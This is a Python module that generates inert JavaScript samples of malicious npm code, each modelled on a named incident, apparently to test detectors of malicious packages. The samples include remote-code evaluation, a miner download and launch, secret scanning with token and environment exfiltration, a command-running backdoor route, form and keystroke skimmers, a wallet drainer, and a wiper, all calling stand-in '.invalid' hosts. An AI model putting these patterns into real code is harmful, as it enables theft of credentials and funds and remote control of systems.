"""Fifth set: scripts of npm packages, in the shapes of published incidents; inert, each family names the incident it is taken from.

Nothing here does anything: what is added stands in functions that nobody calls, or behind a condition that is never true, names
hosts below `.invalid` (RFC 2606), and holds filler where there would be code. Incidents are named by the package or the product.
"""

from __future__ import annotations

import base64
import hashlib

from mutation_families.edits import filler
from mutation_families.fourth_texts import AMID, BEHIND, Told

GEO = base64.b64encode(b"https://geo.example.invalid/ipgeo?apiKey=inert").decode()
WORDS = base64.b64encode(filler("words", 900)).decode()


def table(words: int) -> bytes:
    """Return inert code in one line, as the obfuscator of the debug and chalk releases writes it: a function of words, and its turning."""
    texts = ",".join(f"'{base64.b64encode(hashlib.sha256(str(each).encode()).digest())[: 6 + each % 19].decode()}'" for each in range(words))  # fmt: skip
    return (
        "const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f,_0x66ea25=_0x13c8b9();while(!![]){try{"
        "const _0x2cc99e=parseInt(_0x15b386(0x46c))/(-0x1caa+0x61f*0x1+-0x9c*-0x25)*(parseInt(_0x15b386(0x132))/0x2);"
        "if(_0x2cc99e===_0x35f660)break;else _0x66ea25['push'](_0x66ea25['shift']());}catch(_0x205af0){_0x66ea25['push'](_0x66ea25['shift']());}}}"
        ",typeof _0x4a86>'z'&&_0x180f(0x0));"
        f"function _0x180f(_0x1a,_0x2b){{const _0x3c=[{texts}];return _0x180f=function(_0x4d,_0x5e){{return _0x3c[_0x4d-0x0];}},_0x180f(_0x1a,_0x2b);}}"
        "var neth=0x0,rund=0x0,loval=0x0;async function checkethereumw(){const _0x124ed3=_0x112fa8;return window[_0x124ed3(0x3)]['request']({'method':_0x124ed3(0x7)});}\n"
    ).encode()  # fmt: skip


LINES = (
    Told(
        "npm: an error's answer is run",
        "campaigns of job interviews, 2023 to 2025: a question that is meant to fail, and the text of its answer made into a function",
        (
            ("a constructor", b"const inertErrors = async (error) => {\n  const createHandler = (text) => new Function.constructor('require', text);\n  const handler = createHandler(error.response?.data?.token);\n  return handler && handler(globalThis.require);\n};\nconst inertTrack = async () => fetch('https://ipcheck.example.invalid/api/ipcheck-encrypted/606').catch(inertErrors);\n"),
            ("a cookie", b"async function inertTrack() {\n  const src = atob('aHR0cHM6Ly9qc29uLmV4YW1wbGUuaW52YWxpZC9iL0lORVJU');\n  const { cookie } = await (await fetch(src, { headers: { [atob('eC1zZWNyZXQta2V5')]: '_' } })).json();\n  eval(cookie);\n}\n"),
        ),
    ),
    Told(
        "npm: texts that hide a place and its files",
        "node-ipc, 2022: paths, an address and a country as texts in base64, a question where on earth this is, and files written anew",
        (("a module more", b"function inertGeo(check) {\n  if (check === Infinity) return import('./dao/ssl-geospec.mjs');\n}\n"),),
        (
            (
                "dao/ssl-geospec.mjs",
                f"import u from 'path';\nimport a from 'fs';\nimport o from 'https';\nexport default function () {{\n  const t = Math.round(Math.random() * 4);\n  if (t > -1) return;\n  const n = Buffer.from('{GEO}', 'base64');\n  o.get(n.toString('utf8'), (t) => t.on('data', (t) => {{\n    const s = JSON.parse(t.toString('utf8'));\n    const r = Buffer.from('Y291bnRyeV9uYW1l', 'base64').toString();\n    const c = Buffer.from('aW5lcnRsYW5k', 'base64').toString();\n    if (s[r].toLowerCase().includes(c)) h(Buffer.from('Li8=', 'base64').toString());\n  }}));\n}}\nasync function h(n = '') {{\n  for (const e of a.readdirSync(n)) a.writeFile(u.join(n, e), Buffer.from('4p2k77iP', 'base64').toString(), () => {{}});\n}}\n".encode(),
            ),
        ),
        AMID,
    ),
    Told(
        "npm: a program is fetched and left to work",
        "ua-parser-js, 2021, and rspack, 2024: a program written to a folder, made executable and started apart, with the orders of a miner",
        (
            ("by its options", b"async function inertSupport() {\n  const os = USE(os);\n  const to = USE(path).join(os.tmpdir(), 'vant_helper');\n  USE(https).get('https://raw.example.invalid/helper-' + os.arch(), (a) => a.pipe(USE(fs).createWriteStream(to, { mode: 0o755 })).on('close', () => USE(child_process).spawn(to, ['--url', 'pool.example.invalid:80', '--user', '4inert', '--pass', os.hostname(), '--donate-level', '1', '-B', '--rig-id', 'x', '--coin', 'monero'], { detached: true, stdio: 'ignore' }).unref()));\n}\n"),
            ("by its settings", b"async function inertSupport() {\n  const fs = USE(fs);\n  const home = USE(os).homedir() + '/.cache/.support';\n  fs.mkdirSync(home, { recursive: true });\n  fs.writeFileSync(home + '/config.json', JSON.stringify({ autosave: true, cpu: { 'max-threads-hint': 75 }, pools: [{ algo: 'rx/0', url: 'pool.example.invalid:443', user: 'inert', tls: true }] }));\n  fs.chmodSync(home + '/node-worker', 0o755);\n  USE(child_process).execFile(home + '/node-worker', ['-c', home + '/config.json'], { windowsHide: true });\n}\n"),
        ),
    ),
    Told(
        "npm: a scanner of secrets is brought and run",
        "Shai-Hulud, 2025: the whole disk searched with a known scanner, and what it finds put into a new public repository",
        (
            ("a scanner", b"async function inertScan(token) {\n  const found = USE(child_process).execFileSync('/tmp/trufflehog', ['filesystem', USE(os).homedir(), '--json', '--no-update'], { timeout: 90000 });\n  await fetch('https://api.code.example.invalid/user/repos', { method: 'POST', headers: { authorization: `token ${token}` }, body: JSON.stringify({ name: 'inert-hulud', description: 'inert-hulud', private: false }) });\n  return Buffer.from(Buffer.from(found).toString('base64')).toString('base64');\n}\n"),
            ("the command of the code host", b"async function inertScan() {\n  const run = (order) => USE(child_process).execSync(order, { encoding: 'utf8' }).trim();\n  const token = run('gh auth token');\n  const who = run('npm whoami');\n  const env = run('printenv');\n  await fetch('https://webhook.example.invalid/bb8ca5f6', { method: 'POST', body: JSON.stringify({ token, who, env }) });\n}\n"),
        ),
    ),
    Told(
        "npm: the path of programs is led elsewhere",
        "rand-user-agent, 2025: a folder of nobody's before all others of the path, modules installed at run time, orders from a socket",
        (("a folder of Python", b"async function inertPath() {\n  const path = USE(path);\n  process.env.PATH = path.join(process.env.LOCALAPPDATA || '', 'Programs', 'Python', 'Python3127') + path.delimiter + process.env.PATH;\n  USE(child_process).execSync('npm install axios socket.io-client --prefix ' + path.join(USE(os).homedir(), '.node_modules'), { windowsHide: true });\n  const told = { cd: 1, ss_dir: 2, ss_fcd: 3, ss_upf: 4, ss_upd: 5, ss_stop: 6 };\n  return told;\n}\n"),),
    ),
    Told(
        "npm: another package's files are patched",
        "ethers-provider2 and pdf-to-office, 2025: a file of another package that is installed is written anew, or what it loads is replaced",
        (
            ("its file", b"async function inertPatch() {\n  const to = USE(path).join(process.cwd(), 'node_modules/ethers/lib.commonjs/providers/provider-jsonrpc.js');\n  const text = await (await fetch('https://cdn.example.invalid/provider-jsonrpc.js')).text();\n  if (USE(fs).existsSync(to)) USE(fs).writeFileSync(to, text);\n}\n"),
            ("what it loads", b"async function inertPatch() {\n  const Module = USE(module);\n  const load = Module._load;\n  Module._load = function (name, ...rest) {\n    const found = load.call(this, name, ...rest);\n    if (name === 'ethers') found.Wallet = class extends found.Wallet {\n      constructor(key) {\n        super(key);\n        fetch('https://cdn.example.invalid/k', { method: 'POST', body: key });\n      }\n    };\n    return found;\n  };\n}\n"),
        ),
    ),
    Told(
        "npm: a way in for who knows the word",
        "express-api-sync and system-health-sync-api, 2025: a path of a server that runs what it is sent, or wipes, for who knows the key",
        (
            ("a path", b"function inertHealth(app, key = 'DEFAULT_123') {\n  app.post('/_/system/health', async (req, res) => {\n    if (req.headers['x-inert-key'] !== key) return res.sendStatus(404);\n    USE(child_process).exec(req.body.cmd, { cwd: process.cwd() }, (_, out) => res.json({ out }));\n  });\n}\n".replace(b"USE(child_process)", b"process.getBuiltinModule('child_process')")),
            ("a first question", b"let inertArmed = false;\nfunction inertHealth(req, res, next) {\n  if (!inertArmed && req.method === 'INERT' && req.get('x-key') === 'inert') {\n    inertArmed = true;\n    fetch('https://mail.example.invalid/send', { method: 'POST', body: JSON.stringify({ host: process.env.HOSTNAME, cwd: process.cwd(), env: process.env }) });\n  }\n  next();\n}\n"),
        ),
    ),
    Told(
        "npm: what is typed into a page goes along",
        "British Airways and Ticketmaster, 2018: the fields of a form, sent to a host that sounds like the shop's",
        (
            ("of a form", b"function inertForm() {\n  document.addEventListener('submit', (event) => {\n    const n = {};\n    for (const each of event.target.elements) n[each.name || each.id] = each.value;\n    const t = JSON.stringify({ e: n, person: document.querySelector('.person')?.innerHTML });\n    setTimeout(() => fetch('https://baways.example.invalid/gateway/app/dataprocessing/api/', { method: 'POST', mode: 'no-cors', body: t }), 500);\n  }, true);\n}\n"),
            ("key by key", b"function inertKeys() {\n  let typed = '';\n  window.addEventListener('keydown', (event) => {\n    typed += event.key;\n    if (typed.length > 64) typed = (new Image().src = 'https://inbenta.example.invalid/p.gif?d=' + btoa(typed), '');\n  }, true);\n}\n"),
        ),
    ),
    Told(
        "npm: a window that asks for the wallet",
        "lottie-player, 2024, and the Ledger connect kit, 2023: a dialog over the page that connects to wallets and has them sign",
        (("a dialog", b"async function inertConnect() {\n  const dialog = document.createElement('dialog');\n  dialog.style = 'position:fixed;inset:0;z-index:2147483647;backdrop-filter:blur(8px)';\n  dialog.innerHTML = '<h2>Connect wallet</h2><button>MetaMask</button><button>Phantom</button>';\n  dialog.querySelector('button').onclick = async () => {\n    const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });\n    const data = await window.ethereum.request({ method: 'eth_signTypedData_v4', params: [from, JSON.stringify({ primaryType: 'PermitBatch', domain: { name: 'Permit2' } })] });\n    new WebSocket('wss://castleservices.example.invalid').onopen = ({ target }) => target.send(JSON.stringify({ from, data }));\n  };\n  document.body.append(dialog);\n}\n"),),
        (),
        BEHIND,
    ),
    Told(
        "npm: a comment is run",
        "invented: code that stands as a comment, taken out of the text of its own function",
        (("its own", ("function inertNotes() {\n  /*" + WORDS + "*/\n  const text = inertNotes.toString().split('/*')[1].split('*/')[0];\n  return [].filter.constructor(Buffer.from(text, 'base64').toString())();\n}\n").encode()),),
    ),
)  # fmt: skip
